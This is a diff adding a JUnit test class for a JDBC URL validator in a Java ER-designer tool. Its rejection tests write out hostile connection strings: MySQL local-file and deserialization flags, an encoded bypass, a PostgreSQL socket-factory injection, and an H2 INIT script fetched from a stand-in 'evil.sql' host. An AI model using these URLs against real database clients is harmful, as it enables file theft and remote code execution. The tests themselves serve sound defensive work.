@@ -0,0 +1,59 @@
+package cn.com.traninfo.fastlcdp.erdesigner.util;
+
+import cn.com.traninfo.fastlcdp.erdesigner.config.DatabaseConfig;
+import org.junit.jupiter.api.Test;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+/**
+ * JdbcUrlValidator 单元测试
+ */
+class JdbcUrlValidatorTest {
+
+    @Test
+    void testValidate_AcceptsStandardUrls() {
+        // When & Then: 数据库类型按前缀推断，参数名不区分大小写
+        assertEquals(DatabaseConfig.DatabaseType.MYSQL, JdbcUrlValidator.validate(null,
+                "jdbc:mysql://localhost:3306/fastlcdp?useUnicode=true&characterEncoding=utf8&serverTimezone=Asia/Shanghai"));
+        assertEquals(DatabaseConfig.DatabaseType.POSTGRESQL, JdbcUrlValidator.validate("postgresql",
+                "jdbc:postgresql://localhost:5432/fastlcdp?currentSchema=app&sslmode=require"));
+        assertEquals(DatabaseConfig.DatabaseType.ORACLE, JdbcUrlValidator.validate(null,
+                "jdbc:oracle:thin:@//localhost:1521/ORCLPDB1"));
+        assertEquals(DatabaseConfig.DatabaseType.SQLSERVER, JdbcUrlValidator.validate(null,
+                "jdbc:sqlserver://localhost:1433;databaseName=fastlcdp;encrypt=true;trustServerCertificate=true"));
+        assertEquals(DatabaseConfig.DatabaseType.H2, JdbcUrlValidator.validate(null,
+                "jdbc:h2:mem:route_a;DB_CLOSE_DELAY=-1;database_to_lower=TRUE"));
+    }
+
+    @Test
+    void testValidate_RejectsDangerousParameters() {
+        // When & Then
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:mysql://localhost:3306/db?allowLoadLocalInfile=true"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:mysql://localhost:3306/db?useSSL=false&autoDeserialize=true"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:mysql://(host=localhost,allowLoadLocalInfile=true)/db"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:postgresql://localhost/db?socketFactory=org.example.Factory"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.com/evil.sql'"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:oracle:thin:@localhost:1521/ORCL?TNS_ADMIN=/tmp"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null,
+                "jdbc:mysql://localhost:3306/db?allow%4CoadLocalInfile=true"));
+    }
+
+    @Test
+    void testValidate_RejectsNonMemoryH2AndMismatchedType() {
+        // When & Then
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:h2:~/data"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:h2:file:/tmp/data"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:h2:tcp://localhost/~/data"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:h2:mem:../data"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate("MYSQL", "jdbc:h2:mem:data"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:mysql:replication://localhost/db"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate(null, "jdbc:sqlite:/tmp/data.db"));
+        assertThrows(IllegalArgumentException.class, () -> JdbcUrlValidator.validate("DB2", "jdbc:db2://localhost/db"));
+    }
+}